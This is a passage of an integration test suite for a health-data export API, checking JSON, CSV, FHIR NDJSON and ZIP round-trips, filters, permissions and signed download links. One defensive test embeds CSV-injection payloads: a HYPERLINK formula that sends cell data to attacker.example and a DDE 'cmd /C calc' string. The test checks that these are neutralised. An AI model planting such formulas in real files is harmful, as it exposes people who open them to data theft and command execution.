/**
 * Exports through the real API Worker and the real exporter, against the real database and local R2:
 * POST queues a job, the exporter Worker's queue handler builds it (called directly, as the mapper
 * tests call the mapper: the API test runtime has no consumer for `dfda-exports`), GET follows it, and
 * the signed link downloads it without a bearer token. Each format round-trips to the stored rows
 * (values, units, exact times, flags, notes); filters work; the originals come back byte for byte; a
 * link expires, cannot be forged and opens no other export; nobody else can see or start an export;
 * a custodian can, for their dependent; every creation and download is audited.
 */
import { createMessageBatch } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { type ExportMessage, SYSTEM_TENANT_ID } from "@dfda/core";
import type { DbHandle } from "@dfda/db";
import { clientSource, sourcesBySlug } from "@dfda/db/repositories/ingest";
import { parseMasterKeyring } from "@dfda/vault";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import exporter, { type ExporterEnv } from "../../../exporter/src/index";
import { crc32 } from "../../../exporter/src/zip";
import { api, BASE, expectProblem, json, testDb } from "../../test/helpers";
import {
  clientToken,
  makeClient,
  makeTenant,
  makeUser,
  type TestTenant,
  type TestUser,
  userToken,
} from "../../test/identity";
import { signDownloadToken } from "../lib/export-links";
import type { ExportResponse } from "../lib/exports";
import type { FileAcceptedResponse } from "./v1_ingest_files_create";
import type { ExportAcceptedResponse } from "./v1_me_exports_create";
import type { ExportListResponse } from "./v1_me_exports_list";

const LOINC = "http://loinc.org";
const UCUM = "http://unitsofmeasure.org";
const OBSERVATION_CATEGORY = "http://terminology.hl7.org/CodeSystem/observation-category";

let handle: DbHandle;
let tenant: TestTenant;
let owner: TestUser;
let other: TestUser;
let custodian: TestUser;
let ownerToken: string;
let readOnlyToken: string;
let vitalOnlyToken: string;
let otherToken: string;
let custodianToken: string;
let foreignToken: string;
let appToken: string;
/** Original files of the owner: `mapped` has an observation that came from it, `unmapped` none. */
const uploads: Record<"mapped" | "unmapped", { id: string; bytes: Uint8Array }> = {
  mapped: { id: "", bytes: new Uint8Array() },
  unmapped: { id: "", bytes: new Uint8Array() },
};

/** The parts of a FHIR Observation these tests read. */
interface FhirObservation {
  resourceType: string;
  id: string;
  status: string;
  subject: { reference: string };
  code: { coding: Array<{ system: string; code: string }>; text: string };
  category: Array<{ coding: Array<{ system: string; code: string }> }>;
  effectiveDateTime?: string;
  effectivePeriod?: { start: string; end: string };
  valueQuantity?: { value: number; unit?: string; system?: string; code?: string };
  valueCodeableConcept?: { coding: Array<{ code: string }> };
  valueString?: string;
  valueBoolean?: boolean;
  note?: Array<{ text: string }>;
  extension: Array<{
    url: string;
    valueString?: string;
    valueBoolean?: boolean;
    valueQuantity?: { value: number; code?: string };
  }>;
}

const auth = (bearer: string) => ({ Authorization: `Bearer ${bearer}` });

async function variable(where: string): Promise<{ id: string; version: number; slug: string }> {
  const { rows } = await handle.client.query<{ id: string; version: number; slug: string }>(
    `select id, version, slug from variables where tenant_id = $1 and valid_to is null and ${where} order by slug limit 1`,
    [SYSTEM_TENANT_ID],
  );
  const row = rows[0];
  if (!row) throw new Error(`no variable where ${where}`);
  return row;
}

interface Seed {
  userId: string;
  variable: { id: string; version: number };
  at: string;
  end?: string;
  value?: number;
  code?: string;
  text?: string;
  bool?: boolean;
  unit?: string | null;
  original?: [number, string | null];
  sourceId: string;
  valid?: boolean;
  outlier?: boolean;
  note?: string;
  fileId?: string;
  /** A censored value's comparator (FHIR R4 Quantity.comparator). */
  comparator?: "<" | "<=" | ">=" | ">";
}

async function insert(rows: Seed[]): Promise<void> {
  for (const r of rows) {
    await handle.client.query(
      `insert into observations (id, tenant_id, user_id, variable_id, variable_version, start_at, end_at, value,
         value_code, value_text, value_boolean, unit, original_value, original_unit, source_id, is_valid, is_outlier,
         note, file_id, comparator)
       values (gen_random_uuid(), $1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, $16, $17, $18, $19)`,
      [
        tenant.id,
        r.userId,
        r.variable.id,
        r.variable.version,
        r.at,
        r.end ?? null,
        r.value ?? null,
        r.code ?? null,
        r.text ?? null,
        r.bool ?? null,
        r.unit ?? null,
        r.original?.[0] ?? r.value ?? null,
        r.original === undefined ? (r.unit ?? null) : r.original[1],
        r.sourceId,
        r.valid ?? true,
        r.outlier ?? false,
        r.note ?? null,
        r.fileId ?? null,
        r.comparator ?? null,
      ],
    );
  }
}

async function uploadFile(name: string, bytes: Uint8Array): Promise<string> {
  const res = await api(`/v1/ingest/files?name=${encodeURIComponent(name)}`, {
    method: "POST",
    headers: { ...auth(ownerToken), "Content-Type": "application/octet-stream" },
    body: bytes,
  });
  expect(res.status, await res.clone().text()).toBe(202);
  return (await json<FileAcceptedResponse>(res)).file_id;
}

beforeAll(async () => {
  handle = await testDb();
  tenant = await makeTenant();
  const client = await makeClient(tenant, {
    type: "public",
    scopes: [
      "openid",
      "observations:read",
      "observations:write",
      "observations.vital_signs:read",
      "files:read",
      "files:write",
    ],
  });
  owner = await makeUser(tenant);
  other = await makeUser(tenant);
  custodian = await makeUser(tenant, ["data_owner", "data_custodian"]);
  ownerToken = await userToken(client, owner, "observations:read files:read files:write");
  readOnlyToken = await userToken(client, owner, "observations:read");
  vitalOnlyToken = await userToken(client, owner, "observations.vital_signs:read files:read");
  otherToken = await userToken(client, other, "observations:read files:read");
  custodianToken = await userToken(client, custodian, "observations:read files:read");
  await handle.client.query("insert into custodian_links (tenant_id, custodian_id, dependent_id) values ($1, $2, $3)", [
    tenant.id,
    custodian.id,
    owner.id,
  ]);
  const foreign = await makeTenant();
  foreignToken = await userToken(
    await makeClient(foreign, { type: "public", scopes: ["openid", "observations:read", "files:read"] }),
    await makeUser(foreign),
    "observations:read files:read",
  );
  appToken = await clientToken(
    await makeClient(tenant, { scopes: ["observations:read"], grantTypes: ["client_credentials"] }),
    "observations:read",
  );

  const encoder = new TextEncoder();
  uploads.mapped.bytes = encoder.encode(
    "MSH|^~\\&|LAB|HOSP|||20260301||ORU^R01|1|P|2.5\rOBX|1|NM|2339-0^Glucose^LN||99|mg/dL\r",
  );
  uploads.unmapped.bytes = Uint8Array.from({ length: 70_000 }, (_, i) => (i * 7919) % 256);
  uploads.mapped.id = await uploadFile("labs 2026/03.hl7", uploads.mapped.bytes);
  uploads.unmapped.id = await uploadFile("scan.bin", uploads.unmapped.bytes);

  const watch = await clientSource(handle.db, tenant.id, "test-watch", "Watch");
  const scale = (await sourcesBySlug(handle.db, tenant.id, ["scale"], null)).get("scale") ?? "";
  const heartRate = await variable("slug = 'heart-rate'");
  const weight = await variable("slug = 'body-weight'");
  const glucose = await variable("slug = 'blood-glucose'");
  const steps = await variable("slug = 'steps'");
  const coded = await variable("value_type = 'code'");
  const text = await variable("value_type = 'text'");
  const bool = await variable("value_type = 'boolean'");
  const mine = { userId: owner.id, sourceId: watch };
  await insert([
    { ...mine, variable: heartRate, at: "2026-03-01T08:00:00.123456Z", value: 72, unit: "/min" },
    {
      ...mine,
      variable: heartRate,
      at: "2026-03-01T09:00:00Z",
      value: 400,
      unit: "/min",
      valid: false,
      note: 'after "stairs", then\r\nsat down',
    },
    { ...mine, variable: heartRate, at: "2026-03-02T12:00:30Z", value: 250, unit: "/min", outlier: true },
    // A censored value: "<30 /min", the bound with its comparator.
    { ...mine, variable: heartRate, at: "2026-03-02T13:00:00Z", value: 30, unit: "/min", comparator: "<" },
    { ...mine, variable: weight, at: "2026-03-01T07:00:00Z", value: 80.5, unit: "kg", original: [80500, "g"] },
    {
      ...mine,
      sourceId: scale,
      variable: weight,
      at: "2026-03-02T07:00:00Z",
      value: 79.9,
      unit: "kg",
      original: [176.15, "[lb_av]"],
    },
    {
      ...mine,
      variable: glucose,
      at: "2026-03-01T09:30:00Z",
      value: 5.5,
      unit: "mmol/L",
      original: [99.09, "mg/dL"],
      fileId: uploads.mapped.id,
    },
    { ...mine, variable: steps, at: "2026-03-01T00:00:00Z", end: "2026-03-02T00:00:00Z", value: 8042, unit: "{steps}" },
    { ...mine, variable: coded, at: "2026-03-01T10:00:00Z", code: "LA6576-8", unit: null, original: [0, null] },
    { ...mine, variable: text, at: "2026-03-01T11:00:00Z", text: "Ünïcode, “quotes” and a\nnew line", unit: null },
    { ...mine, variable: bool, at: "2026-03-01T12:00:00Z", bool: false, unit: null },
  ]);
  // Another person of the same tenant, at the same instants: never in the owner's export.
  await insert([
    {
      userId: other.id,
      sourceId: watch,
      variable: heartRate,
      at: "2026-03-01T08:00:00.123456Z",
      value: 99,
      unit: "/min",
    },
    { userId: other.id, sourceId: watch, variable: weight, at: "2026-03-01T07:00:00Z", value: 55, unit: "kg" },
  ]);
  // Original values of non-numeric rows: none.
  await handle.client.query("update observations set original_value = null where user_id = $1 and value is null", [
    owner.id,
  ]);
});
afterAll(async () => handle.close());

// ---- helpers ----------------------------------------------------------------------------------

async function create(body: unknown, bearer = ownerToken, query = ""): Promise<Response> {
  return api(`/v1/me/exports${query}`, {
    method: "POST",
    headers: { ...auth(bearer), "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
}

/** Runs the exporter's queue handler for an export, as the `dfda-exports` consumer would. */
async function build(exportId: string, userId = owner.id): Promise<void> {
  const message: ExportMessage = {
    v: 1,
    type: "export",
    export_id: exportId,
    tenant_id: tenant.id,
    user_id: userId,
    base_url: BASE,
  };
  const batch = createMessageBatch("dfda-exports", [
    { id: crypto.randomUUID(), timestamp: new Date(), attempts: 1, body: message },
  ]);
  await exporter.queue(batch, env as unknown as ExporterEnv);
}

async function status(id: string, bearer = ownerToken, query = ""): Promise<ExportResponse> {
  const res = await api(`/v1/me/exports/${id}${query}`, { headers: auth(bearer) });
  expect(res.status, await res.clone().text()).toBe(200);
  return json<ExportResponse>(res);
}

/** Asks for an export, builds it, and downloads it (without a bearer token). */
async function exportOf(body: unknown): Promise<{ record: ExportResponse; response: Response }> {
  const res = await create(body);
  expect(res.status, await res.clone().text()).toBe(202);
  const accepted = await json<ExportAcceptedResponse>(res);
  await build(accepted.export_id);
  const record = await status(accepted.export_id);
  expect(record.status).toBe("completed");
  const response = await api(record.download_url ?? "");
  expect(response.status, await response.clone().text()).toBe(200);
  return { record, response };
}

interface StoredRow {
  id: string;
  slug: string;
  start_at: string;
  end_at: string | null;
  value: number | null;
  value_code: string | null;
  value_text: string | null;
  value_boolean: boolean | null;
  unit: string | null;
  original_value: number | null;
  original_unit: string | null;
  comparator: string | null;
  source: string;
  is_valid: boolean;
  is_outlier: boolean;
  note: string | null;
  file_id: string | null;
}

/** The owner's stored rows, as the database has them (instants to the microsecond). */
async function stored(where = "true"): Promise<Map<string, StoredRow>> {
  const us = (col: string) => `to_char(${col} at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')`;
  const { rows } = await handle.client.query<StoredRow>(
    `select o.id, v.slug, ${us("o.start_at")} as start_at, ${us("o.end_at")} as end_at, o.value, o.value_code,
            o.value_text, o.value_boolean, o.unit, o.original_value, o.original_unit, o.comparator, s.slug as source, o.is_valid,
            o.is_outlier, o.note, o.file_id
     from observations o
     join variables v on v.id = o.variable_id and v.version = o.variable_version
     join variable_categories c on c.id = v.category_id
     join sources s on s.id = o.source_id
     where o.user_id = $1 and ${where}`,
    [owner.id],
  );
  return new Map(rows.map((r) => [r.id, r]));
}

/** An RFC 3339 instant written out to microseconds, to compare exactly with the database. */
function exact(instant: string | null): string | null {
  if (instant === null) return null;
  const m = /^(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2})(?:\.(\d{1,6}))?Z$/.exec(instant);
  if (!m) throw new Error(`not an exact UTC instant: ${instant}`);
  return `${m[1]}.${(m[2] ?? "").padEnd(6, "0")}Z`;
}

/** RFC 4180 parser: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = "";
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      record.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i++;
    } else field += ch;
  }
  if (field !== "" || record.length > 0) throw new Error("the last record has no CRLF");
  return records;
}

/** Reads a STORED ZIP archive through its central directory (ZIP64 too), checking each CRC-32. */
function readZip(bytes: Uint8Array): Map<string, Uint8Array> {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let eocd = bytes.length - 22;
  while (eocd >= 0 && view.getUint32(eocd, true) !== 0x06054b50) eocd--;
  if (eocd < 0) throw new Error("no end of central directory");
  let count = view.getUint16(eocd + 10, true);
  let offset = view.getUint32(eocd + 16, true);
  if (count === 0xffff || offset === 0xffffffff) {
    const record = Number(view.getBigUint64(eocd - 20 + 8, true));
    count = Number(view.getBigUint64(record + 32, true));
    offset = Number(view.getBigUint64(record + 48, true));
  }
  const entries = new Map<string, Uint8Array>();
  for (let i = 0; i < count; i++) {
    expect(view.getUint32(offset, true)).toBe(0x02014b50);
    const crc = view.getUint32(offset + 16, true);
    let size = view.getUint32(offset + 24, true);
    const nameLength = view.getUint16(offset + 28, true);
    const extraLength = view.getUint16(offset + 30, true);
    const commentLength = view.getUint16(offset + 32, true);
    let local = view.getUint32(offset + 42, true);
    const name = new TextDecoder().decode(bytes.subarray(offset + 46, offset + 46 + nameLength));
    let extra = offset + 46 + nameLength;
    const extraEnd = extra + extraLength;
    while (extra < extraEnd) {
      const id = view.getUint16(extra, true);
      const length = view.getUint16(extra + 2, true);
      if (id === 0x0001) {
        let at = extra + 4;
        if (size === 0xffffffff) {
          size = Number(view.getBigUint64(at, true));
          at += 16; // uncompressed, then compressed
        }
        if (local === 0xffffffff) local = Number(view.getBigUint64(at, true));
      }
      extra += 4 + length;
    }
    const start = local + 30 + view.getUint16(local + 26, true) + view.getUint16(local + 28, true);
    const data = bytes.subarray(start, start + size);
    expect(crc32(data), `CRC-32 of ${name}`).toBe(crc);
    entries.set(name, data);
    offset = extraEnd + commentLength;
  }
  return entries;
}

// ---- formats ----------------------------------------------------------------------------------

describe("POST /v1/me/exports and the download", () => {
  it("queues a job, reports progress, and round-trips JSON to the stored rows", async () => {
    const res = await create({ format: "json" });
    expect(res.status).toBe(202);
    const accepted = await json<ExportAcceptedResponse>(res);
    expect(accepted).toMatchObject({ status: "queued", status_url: `${BASE}/v1/me/exports/${accepted.export_id}` });
    expect(res.headers.get("location")).toBe(accepted.status_url);
    expect(await status(accepted.export_id)).toMatchObject({
      status: "queued",
      format: "json",
      include_files: false,
      progress: { rows_written: 0, total_rows: null, files_written: 0 },
      download_url: null,
      requested_by: owner.id,
    });

    await build(accepted.export_id);
    const record = await status(accepted.export_id);
    const rows = await stored();
    expect(record).toMatchObject({
      status: "completed",
      content_type: "application/json",
      progress: { rows_written: rows.size, total_rows: rows.size, files_written: 0 },
    });
    expect(Date.parse(record.expires_at ?? "")).toBeGreaterThan(Date.now() + 23.9 * 3600_000);
    expect(Date.parse(record.expires_at ?? "")).toBeLessThanOrEqual(Date.now() + 24 * 3600_000);
    expect(record.download_url).toMatch(new RegExp(`^${BASE}/v1/me/exports/${record.id}/download\\?token=`));

    // No bearer token: the link is the capability.
    const download = await api(record.download_url ?? "");
    expect(download.status).toBe(200);
    expect(download.headers.get("content-type")).toBe("application/json");
    expect(download.headers.get("content-length")).toBe(String(record.size_bytes));
    expect(download.headers.get("cache-control")).toBe("no-store");
    expect(download.headers.get("content-disposition")).toBe(`attachment; filename="dfda-export-${record.id}.json"`);
    const document = await json<{
      export: { id: string; format: string };
      person: { id: string };
      observations: Array<{
        id: string;
        variable: { slug: string };
        start_at: string;
        end_at: string | null;
        value: number | null;
        value_code: string | null;
        value_text: string | null;
        value_boolean: boolean | null;
        unit: string | null;
        original: { value: number | null; unit: string | null };
        comparator: string | null;
        source: string;
        flags: { valid: boolean; outlier: boolean };
        note: string | null;
        file_id: string | null;
      }>;
    }>(download);
    expect(document.export).toMatchObject({ id: record.id, format: "json" });
    expect(document.person.id).toBe(owner.id);
    expect(document.observations).toHaveLength(rows.size);
    for (const o of document.observations) {
      const row = rows.get(o.id);
      expect(row, `row ${o.id} is the owner's`).toBeDefined();
      expect({
        slug: o.variable.slug,
        start_at: exact(o.start_at),
        end_at: exact(o.end_at),
        value: o.value,
        value_code: o.value_code,
        value_text: o.value_text,
        value_boolean: o.value_boolean,
        unit: o.unit,
        original_value: o.original.value,
        original_unit: o.original.unit,
        comparator: o.comparator,
        source: o.source,
        is_valid: o.flags.valid,
        is_outlier: o.flags.outlier,
        note: o.note,
        file_id: o.file_id,
      }).toEqual({ ...row, id: undefined });
    }
  });

  it("round-trips CSV (RFC 4180 quoting, header row, CRLF)", async () => {
    const { response } = await exportOf({ format: "csv" });
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    const [header, ...records] = parseCsv(await response.text());
    expect(header).toEqual([
      "id",
      "start_at",
      "end_at",
      "variable",
      "variable_name",
      "category",
      "value_type",
      "value",
      "comparator",
      "unit",
      "original_value",
      "original_unit",
      "source",
      "is_valid",
      "is_outlier",
      "note",
      "file_id",
      "status",
      "code_system",
      "code",
      "code_display",
    ]);
    const rows = await stored();
    expect(records).toHaveLength(rows.size);
    const nul = (s: string | undefined) => (s === "" || s === undefined ? null : s);
    for (const r of records) {
      const [
        id,
        start,
        end,
        slug,
        ,
        ,
        valueType,
        value,
        comparator,
        unit,
        originalValue,
        originalUnit,
        source,
        valid,
        outlier,
        note,
        fileId,
      ] = r;
      const row = rows.get(id ?? "");
      if (row === undefined) throw new Error(`row ${id} is not the owner's`);
      const typed =
        valueType === "numeric"
          ? { value: Number(value) }
          : valueType === "code"
            ? { value_code: value }
            : valueType === "text"
              ? { value_text: value }
              : { value_boolean: value === "true" };
      expect(typed).toEqual(
        valueType === "numeric"
          ? { value: row.value }
          : valueType === "code"
            ? { value_code: row.value_code }
            : valueType === "text"
              ? { value_text: row.value_text }
              : { value_boolean: row.value_boolean },
      );
      expect({
        slug,
        start_at: exact(start ?? ""),
        end_at: exact(nul(end)),
        unit: nul(unit),
        original_value: nul(originalValue) === null ? null : Number(originalValue),
        original_unit: nul(originalUnit),
        comparator: nul(comparator),
        source,
        is_valid: valid === "true",
        is_outlier: outlier === "true",
        note: nul(note),
        file_id: nul(fileId),
      }).toEqual({
        slug: row.slug,
        start_at: row.start_at,
        end_at: row.end_at,
        unit: row.unit,
        original_value: row.original_value,
        original_unit: row.original_unit,
        comparator: row.comparator,
        source: row.source,
        is_valid: row.is_valid,
        is_outlier: row.is_outlier,
        note: row.note,
        file_id: row.file_id,
      });
    }
    // The note with a quote, a comma and a CRLF came back whole.
    expect(records.some((r) => r[15] === 'after "stairs", then\r\nsat down')).toBe(true);
  });

  it("writes text a spreadsheet would run as a formula with a leading apostrophe in CSV, verbatim in JSON", async () => {
    // OWASP "CSV Injection": a note or text value typed by someone else must not run when the person
    // opens their export in a spreadsheet. Negative numbers are numbers, not text, and stay as they are.
    const formula = '=HYPERLINK("https://attacker.example/?d="&A2,"open")';
    const ofType = async (valueType: string): Promise<string> => {
      const { rows } = await handle.client.query<{ id: string }>(
        `select o.id from observations o join variables v on v.id = o.variable_id and v.version = o.variable_version
          where o.user_id = $1 and v.value_type = $2 order by o.start_at limit 1`,
        [owner.id, valueType],
      );
      return rows[0]?.id ?? "";
    };
    const textId = await ofType("text");
    const numericId = await ofType("numeric");
    if (!textId || !numericId) throw new Error("the owner has no text and numeric rows");
    const before = await handle.client.query<{
      id: string;
      value: number | null;
      value_text: string | null;
      note: string | null;
    }>("select id, value, value_text, note from observations where id = any($1::uuid[])", [[textId, numericId]]);
    await handle.client.query(
      "update observations set value_text = '@SUM(1+1)*cmd|'' /C calc''!A0', note = $2 where id = $1",
      [textId, formula],
    );
    await handle.client.query("update observations set value = -3.5, note = $2 where id = $1", [numericId, "\t=1+1"]);
    try {
      const [header, ...records] = parseCsv(await (await exportOf({ format: "csv" })).response.text());
      const column = (name: string) => header?.indexOf(name) ?? -1;
      const text = records.find((r) => r[0] === textId);
      const numeric = records.find((r) => r[0] === numericId);
      expect(text?.[column("value")]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
      expect(text?.[column("note")]).toBe(`'${formula}`);
      expect(numeric?.[column("value")]).toBe("-3.5");
      expect(numeric?.[column("note")]).toBe("'\t=1+1");

      const document = await json<{
        observations: Array<{ id: string; value_text: string | null; note: string | null }>;
      }>((await exportOf({ format: "json" })).response);
      const verbatim = document.observations.find((o) => o.id === textId);
      expect(verbatim).toMatchObject({ value_text: "@SUM(1+1)*cmd|' /C calc'!A0", note: formula });
    } finally {
      for (const row of before.rows) {
        await handle.client.query("update observations set value = $2, value_text = $3, note = $4 where id = $1", [
          row.id,
          row.value,
          row.value_text,
          row.note,
        ]);
      }
    }
  });

  it("round-trips FHIR R4 NDJSON: one Observation per line, LOINC codes, UCUM quantities", async () => {
    const { response } = await exportOf({ format: "fhir-ndjson" });
    expect(response.headers.get("content-type")).toBe("application/fhir+ndjson");
    const text = await response.text();
    expect(text.endsWith("\n")).toBe(true);
    const resources = text
      .slice(0, -1)
      .split("\n")
      .map((line) => JSON.parse(line) as FhirObservation);
    const rows = await stored();
    expect(resources).toHaveLength(rows.size);
    const ext = (r: FhirObservation, name: string) =>
      r.extension.find((e) => e.url === `${BASE}/fhir/StructureDefinition/${name}`);
    for (const resource of resources) {
      const row = rows.get(resource.id);
      if (row === undefined) throw new Error(`resource ${resource.id} is not the owner's`);
      expect(resource).toMatchObject({
        resourceType: "Observation",
        status: "final",
        subject: { reference: `Patient/${owner.id}` },
      });
      expect(resource.code.coding).toContainEqual(
        expect.objectContaining({ system: `${BASE}/fhir/CodeSystem/variable`, code: row.slug }),
      );
      const effective = resource.effectivePeriod;
      expect(exact(effective?.start ?? resource.effectiveDateTime ?? "")).toBe(row.start_at);
      expect(exact(effective?.end ?? null)).toBe(row.end_at);
      if (row.value !== null) {
        expect(resource.valueQuantity).toEqual({
          value: row.value,
          unit: row.unit,
          system: UCUM,
          code: row.unit,
          ...(row.comparator !== null && { comparator: row.comparator }),
        });
      } else if (row.value_code !== null) {
        expect(resource.valueCodeableConcept?.coding[0]?.code).toBe(row.value_code);
      } else if (row.value_text !== null) {
        expect(resource.valueString).toBe(row.value_text);
      } else {
        expect(resource.valueBoolean).toBe(row.value_boolean);
      }
      expect(ext(resource, "observation-source")?.valueString).toBe(row.source);
      expect(ext(resource, "observation-valid")?.valueBoolean ?? true).toBe(row.is_valid);
      expect(ext(resource, "observation-outlier")?.valueBoolean ?? false).toBe(row.is_outlier);
      const original = ext(resource, "observation-original-value")?.valueQuantity;
      expect(original?.value ?? null).toBe(row.original_value);
      if (original !== undefined) expect(original.code ?? null).toBe(row.original_unit);
      expect(resource.note?.[0]?.text ?? null).toBe(row.note);
    }
    const heartRate = resources.find((r) => r.code.text === "Heart rate");
    expect(heartRate).toMatchObject({
      code: { coding: expect.arrayContaining([expect.objectContaining({ system: LOINC, code: "8867-4" })]) },
      category: expect.arrayContaining([
        { coding: [expect.objectContaining({ system: OBSERVATION_CATEGORY, code: "vital-signs" })] },
      ]),
    });
    const glucose = resources.find((r) => r.valueQuantity?.code === "mmol/L");
    expect(glucose?.category).toContainEqual({
      coding: [expect.objectContaining({ system: OBSERVATION_CATEGORY, code: "laboratory" })],
    });
  });
});

describe("filters", () => {
  async function exportedIds(filters: Record<string, unknown>): Promise<string[]> {
    const { record, response } = await exportOf({ format: "csv", filters });
    const [, ...records] = parseCsv(await response.text());
    expect(record.progress.rows_written).toBe(records.length);
    return records.map((r) => r[0] ?? "").sort();
  }
  const ids = async (where: string) => [...(await stored(where)).keys()].sort();

  it("by variable (id or coding) and time window", async () => {
    const got = await exportedIds({
      variables: [`${LOINC}|8867-4`],
      from: "2026-03-01T08:30:00Z",
      to: "2026-03-03T00:00:00Z",
    });
    expect(got).toEqual(
      await ids(
        "v.slug = 'heart-rate' and o.start_at >= '2026-03-01T08:30:00Z' and o.start_at < '2026-03-03T00:00:00Z'",
      ),
    );
    expect(got).toHaveLength(3);
    const weightId = (await stored("v.slug = 'body-weight'")).values().next().value;
    const { rows } = await handle.client.query<{ variable_id: string }>(
      "select variable_id from observations where id = $1",
      [weightId?.id],
    );
    expect(await exportedIds({ variables: [rows[0]?.variable_id] })).toEqual(await ids("v.slug = 'body-weight'"));
  });

  it("by category and by source, and the stored filters say what was asked", async () => {
    expect(await exportedIds({ categories: ["laboratory"] })).toEqual(await ids("c.slug = 'laboratory'"));
    expect(await exportedIds({ sources: ["scale"] })).toEqual(await ids("s.slug = 'scale'"));
    const { record } = await exportOf({
      format: "json",
      filters: { variables: [`${LOINC}|29463-7`], sources: ["scale", "scale"] },
    });
    expect(record.filters.sources).toEqual(["scale"]);
    expect(record.progress.rows_written).toBe(1);
    expect(record.filters.variables).toHaveLength(1);
    expect(record.filters.variables?.[0]).toMatch(/^[0-9a-f-]{36}$/);
  });

  it("refuses unknown names and bad windows, naming each field", async () => {
    const problem = await expectProblem(
      await create({
        format: "csv",
        filters: { variables: [`${LOINC}|8867-4`, `${LOINC}|0000-0`], categories: ["nope"], sources: ["ghost"] },
      }),
      400,
      "validation_failed",
    );
    expect(problem.errors?.map((e) => e.pointer)).toEqual([
      "/filters/variables/1",
      "/filters/categories/0",
      "/filters/sources/0",
    ]);
    const window = await expectProblem(
      await create({ format: "csv", filters: { from: "2026-03-02T00:00:00Z", to: "2026-03-01T00:00:00Z" } }),
      400,
      "validation_failed",
    );
    expect(window.errors?.map((e) => e.path)).toContain("filters.to");
    await expectProblem(await create({ format: "xml" }), 400, "validation_failed");
    await expectProblem(await create({ format: "csv", filters: { from: "yesterday" } }), 400, "validation_failed");
  });
});

describe("with the original files", () => {
  it("returns a ZIP: the observations, every original byte for byte, and a manifest", async () => {
    const { record, response } = await exportOf({ format: "fhir-ndjson", include_files: true });
    expect(response.headers.get("content-type")).toBe("application/zip");
    expect(record).toMatchObject({
      include_files: true,
      content_type: "application/zip",
      progress: { files_written: 2 },
    });
    const entries = readZip(new Uint8Array(await response.arrayBuffer()));
    expect([...entries.keys()]).toEqual([
      "observations.ndjson",
      `files/${uploads.mapped.id}-labs 2026_03.hl7`,
      `files/${uploads.unmapped.id}-scan.bin`,
      "manifest.json",
    ]);
    expect(entries.get(`files/${uploads.mapped.id}-labs 2026_03.hl7`)).toEqual(uploads.mapped.bytes);
    expect(entries.get(`files/${uploads.unmapped.id}-scan.bin`)).toEqual(uploads.unmapped.bytes);
    const lines = new TextDecoder().decode(entries.get("observations.ndjson")).trim().split("\n");
    expect(lines).toHaveLength((await stored()).size);
    const manifest = JSON.parse(new TextDecoder().decode(entries.get("manifest.json")));
    expect(manifest).toMatchObject({
      export: { id: record.id, format: "fhir-ndjson", include_files: true },
      person: { id: owner.id },
      observations: { path: "observations.ndjson", count: lines.length },
      skipped_files: [],
    });
    expect(manifest.files.map((f: { id: string; size_bytes: number }) => [f.id, f.size_bytes])).toEqual([
      [uploads.mapped.id, uploads.mapped.bytes.length],
      [uploads.unmapped.id, uploads.unmapped.bytes.length],
    ]);
  });

  it("with filters, includes only the files the exported observations came from", async () => {
    const { response } = await exportOf({
      format: "csv",
      include_files: true,
      filters: { categories: ["laboratory"] },
    });
    const entries = readZip(new Uint8Array(await response.arrayBuffer()));
    expect([...entries.keys()]).toEqual([
      "observations.csv",
      `files/${uploads.mapped.id}-labs 2026_03.hl7`,
      "manifest.json",
    ]);
  });

  it("needs files:read as well", async () => {
    const res = await create({ format: "csv", include_files: true }, readOnlyToken);
    await expectProblem(res, 403, "forbidden");
    expect(res.headers.get("www-authenticate")).toContain('scope="files:read"');
  });
});

// ---- links ------------------------------------------------------------------------------------

describe("download links", () => {
  it("expire: the status says so, and the link answers 410", async () => {
    const { record } = await exportOf({ format: "csv" });
    const link = record.download_url ?? "";
    expect((await api(link)).status).toBe(200);
    await handle.client.query("update exports set expires_at = now() - interval '1 second' where id = $1", [record.id]);
    expect(await status(record.id)).toMatchObject({ status: "expired", download_url: null });
    await expectProblem(await api(link), 410, "gone");

    // A genuine link whose own time is over.
    await handle.client.query("update exports set expires_at = now() + interval '1 hour' where id = $1", [record.id]);
    const keyring = parseMasterKeyring(env.AUTH_MASTER_KEYS ?? "", env.AUTH_MASTER_KEY_ID);
    const stale = await signDownloadToken(
      keyring,
      { tenantId: tenant.id, userId: owner.id, exportId: record.id, holderId: owner.id },
      new Date(Date.now() - 1000),
    );
    await expectProblem(await api(`/v1/me/exports/${record.id}/download?token=${stale}`), 410, "gone");
  });

  it("cannot be forged, and one export's link opens no other", async () => {
    const a = (await exportOf({ format: "csv" })).record;
    const b = (await exportOf({ format: "json" })).record;
    const tokenA = new URL(a.download_url ?? "").searchParams.get("token") ?? "";
    const [keyId, expiry, holder, mac] = tokenA.split(".");
    // A's token on B's path.
    await expectProblem(await api(`/v1/me/exports/${b.id}/download?token=${tokenA}`), 403, "forbidden");
    // A later expiry with A's signature; a changed signature; a key id that does not exist.
    await expectProblem(
      await api(`/v1/me/exports/${a.id}/download?token=${keyId}.${Number(expiry) + 3600}.${holder}.${mac}`),
      403,
      "forbidden",
    );
    const flipped = `${(mac ?? "").slice(0, -2)}${(mac ?? "").endsWith("AA") ? "AB" : "AA"}`;
    await expectProblem(
      await api(`/v1/me/exports/${a.id}/download?token=${keyId}.${expiry}.${holder}.${flipped}`),
      403,
      "forbidden",
    );
    await expectProblem(
      await api(`/v1/me/exports/${a.id}/download?token=k9.${expiry}.${holder}.${mac}`),
      403,
      "forbidden",
    );
    await expectProblem(await api(`/v1/me/exports/${a.id}/download?token=garbage`), 403, "forbidden");
